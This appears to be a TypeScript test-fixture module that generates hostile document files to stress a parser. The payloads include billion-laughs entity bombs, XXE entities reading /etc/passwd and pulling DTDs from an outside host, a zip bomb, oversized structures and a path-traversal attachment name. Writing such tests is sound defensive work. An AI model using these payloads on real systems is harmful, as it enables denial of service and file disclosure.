/** Office files and XML that nest, repeat, point elsewhere or grow. */
import { deflateRawSync } from "node:zlib";
import { strToU8, unzipSync, zipSync } from "fflate";
import { officeWith } from "./dangerous.ts";
import { noise } from "./hostile-pdfs.ts";
import { docx, openDocument, pptx, ublInvoice, wordParagraph, xlsx } from "./office.ts";
import { makeZip } from "./zips.ts";

const MiB = 1024 * 1024;
const laughs = `<!DOCTYPE x [<!ENTITY a0 "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY a${i + 1} "${`&a${i};`.repeat(10)}">`).join("")}]>`;
const reaching = (outside: string) =>
  `<!DOCTYPE x SYSTEM "${outside}/dtd" [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY u SYSTEM "${outside}/entity"><!ENTITY % p SYSTEM "${outside}/p">%p;]>`;

const OFFICE =
  'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"';

/** An OpenDocument whose contents begin as the caller wants. */
const openText = (before: string, body: string, kind = "text"): Uint8Array =>
  zipSync({
    mimetype: [strToU8(`application/vnd.oasis.opendocument.${kind}`), { level: 0 }],
    "content.xml": strToU8(
      `<?xml version="1.0"?>${before}<office:document-content ${OFFICE}><office:body><office:${kind}>${body}</office:${kind}></office:body></office:document-content>`,
    ),
  });

/** A workbook one of whose parts is replaced. */
const bookWith = (part: string, content: string): Uint8Array => {
  const row = '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" s="3"><v>5</v></c></row>';
  return zipSync({ ...unzipSync(xlsx([{ name: "A", rows: row }], ["x"])), [part]: strToU8(content) });
};

const inv = (before: string, body: string) => strToU8(`<?xml version="1.0"?>${before}${body}`);

export const hostileOffice: Record<string, (outside: string) => Uint8Array> = {
  "word-entries.docx": () =>
    makeZip([
      { name: "[Content_Types].xml", bytes: "<Types/>" },
      { name: "word/document.xml", bytes: "<w:document/>" },
      ...Array.from({ length: 65_000 }, (_, i) => ({
        name: `word/m${i}.xml`,
        bytes: "",
        method: 0 as const,
      })),
    ]),
  "word-attributes.docx": () =>
    docx(
      `<w:p ${Array.from({ length: 200_000 }, (_, i) => `a${i}="x"`).join(" ")}>${wordParagraph("x")}</w:p>`,
    ),
  "word-one-run.docx": () => docx(wordParagraph("word ".repeat(2 * MiB))),
  "word-no-spaces.docx": () => docx(wordParagraph("x".repeat(8 * MiB))),
  "word-pictures.docx": () =>
    officeWith(
      Object.fromEntries(Array.from({ length: 3000 }, (_, i) => [`word/media/${i}.png`, noise(300, i)])),
    ),
  "word-table-wide.docx": () =>
    docx(`<w:tbl><w:tr>${`<w:tc>${wordParagraph("x")}</w:tc>`.repeat(20_000)}</w:tr></w:tbl>`),
  "word-relations.docx": (outside) =>
    officeWith({
      "word/_rels/document.xml.rels": `<Relationships>${`<Relationship Id="a" TargetMode="External" Target="${outside}/template" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>`.repeat(2000)}</Relationships>`,
    }),
  "sheet-laughs.xlsx": () =>
    bookWith("xl/sharedStrings.xml", `<?xml version="1.0"?>${laughs}<sst><si><t>&a9;</t></si></sst>`),
  "sheet-outside.xlsx": (outside) =>
    bookWith(
      "xl/workbook.xml",
      `<?xml version="1.0"?>${reaching(outside)}<workbook><x>&f;&u;</x></workbook>`,
    ),
  "sheet-a-million-strings.xlsx": () =>
    bookWith("xl/sharedStrings.xml", `<sst>${"<si><t>x</t></si>".repeat(1_000_000)}</sst>`),
  "sheet-a-million-cells.xlsx": () =>
    xlsx([
      {
        name: "A",
        rows: Array.from(
          { length: 20_000 },
          (_, r) => `<row r="${r + 1}">${`<c><v>${r}</v></c>`.repeat(50)}</row>`,
        ).join(""),
      },
    ]),
  "sheet-formats.xlsx": () =>
    bookWith(
      "xl/styles.xml",
      `<styleSheet><numFmts>${`<numFmt numFmtId="200" formatCode="${"[".repeat(3000)}${'"'.repeat(3001)}${"#,".repeat(3000)}"/>`.repeat(200)}</numFmts></styleSheet>`,
    ),
  "sheet-merges.xlsx": () =>
    xlsx([
      {
        name: "A",
        rows: '<row r="1"><c r="A1"><v>1</v></c></row>',
        more: `<mergeCells>${'<mergeCell ref="A1:XFD1048576"/>'.repeat(50_000)}</mergeCells>`,
      },
    ]),
  "sheet-bomb.xlsx": () => {
    const body = deflateRawSync(Buffer.alloc(300 * MiB, "<c><v>1</v></c>"), { level: 9 });
    return makeZip([
      {
        name: "[Content_Types].xml",
        bytes:
          '<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
      },
      { name: "xl/workbook.xml", bytes: "<workbook/>" },
      {
        name: "xl/worksheets/sheet1.xml",
        bytes: "",
        packed: body,
        says: { bytes: 300 * MiB, packed: body.length },
      },
    ]);
  },
  "slides-many.pptx": () =>
    pptx(Array.from({ length: 1500 }, (_, i) => ({ title: `Slide ${i}`, lines: ["x".repeat(2000)] }))),
  "open-laughs.odt": () => openText(laughs, "<text:p>&a9;</text:p>"),
  "open-outside.odt": (outside) => openText(reaching(outside), "<text:p>&f;&u;</text:p>"),
  "open-deep.odt": () =>
    openText("", `${"<text:section>".repeat(50_000)}x${"</text:section>".repeat(50_000)}`),
  "open-spaces.odt": () =>
    openDocument("text", '<text:p>a<text:s text:c="2000000000"/>b</text:p>'.repeat(500)),
  "open-spans.ods": () =>
    openText(
      "",
      '<table:table><table:table-row><table:table-cell table:number-columns-spanned="2000000000" table:number-rows-spanned="2000000000"><text:p>x</text:p></table:table-cell></table:table-row></table:table>',
      "spreadsheet",
    ),
  "open-lists.odt": () =>
    openText("", `${"<text:list><text:list-item>".repeat(140)}<text:p>x</text:p>`.repeat(1)),
  "bill-laughs.xml": () =>
    inv(
      laughs,
      ublInvoice()
        .replace(/^<\?xml[^>]*>\s*/, "")
        .replace("</", "&a9;</"),
    ),
  "bill-outside.xml": (outside) => inv(reaching(outside), ublInvoice().replace(/^<\?xml[^>]*>\s*/, "")),
  "bill-lines.xml": () => {
    const bill = ublInvoice();
    const line = /<cac:InvoiceLine>[\s\S]*?<\/cac:InvoiceLine>/.exec(bill)?.[0] ?? "";
    return strToU8(bill.replace(line, line.repeat(30_000)));
  },
  "bill-attached.xml": () =>
    strToU8(ublInvoice({ name: "../../x.pdf", mime: "application/pdf", bytes: Buffer.alloc(8 * MiB) })),
  "attributes.xml": () =>
    inv("", `<Invoice ${Array.from({ length: 300_000 }, (_, i) => `a${i}="${i}"`).join(" ")}/>`),
  "comment-never-ends.xml": () => inv("", `<Invoice><!--${"- ".repeat(5 * MiB)}`),
  "one-word.xml": () => inv("", `<Invoice><ID>${"9".repeat(10 * MiB)}</ID></Invoice>`),
  "laughs.svg": () => inv(laughs, '<svg xmlns="http://www.w3.org/2000/svg"><text>&a9;</text></svg>'),
  "entities.html": () =>
    strToU8(`<!doctype html>${laughs}<p>${"&amp;#x41;&lol;&#99999999;".repeat(200_000)}`),
  "attributes.html": () =>
    strToU8(`<!doctype html><html><p ${"style='a:b' ".repeat(300_000)}>Amount due 12.00</p></html>`),
  "styles.html": () =>
    strToU8(`<!doctype html><style>${"a>".repeat(200_000)}b{color:red}</style><p>Amount due 12.00</p>`),
  "data-pictures.html": () =>
    strToU8(
      `<!doctype html><p>Bill</p>${`<img src="data:image/png;base64,${Buffer.from(noise(3000)).toString("base64")}">`.repeat(2000)}`,
    ),
  "lists.html": () => strToU8(`<!doctype html>${"<ul><li>".repeat(100_000)}x`),
  "one-word.html": () => strToU8(`<!doctype html><p>${"x".repeat(10 * MiB)}</p>`),
  "open-tags.html": () => strToU8(`<!doctype html>${"<".repeat(3 * MiB)}`),
  "rich-tables.rtf": () => strToU8(`{\\rtf1 ${"\\trowd\\cellx100 x\\cell\\row ".repeat(100_000)}}`),
  "rich-words.rtf": () => strToU8(`{\\rtf1 ${"\\u-99999999999 ? \\'zz \\bin-5 ".repeat(300_000)}}`),
  "rich-one-line.rtf": () => strToU8(`{\\rtf1 ${"x".repeat(10 * MiB)}}`),
};
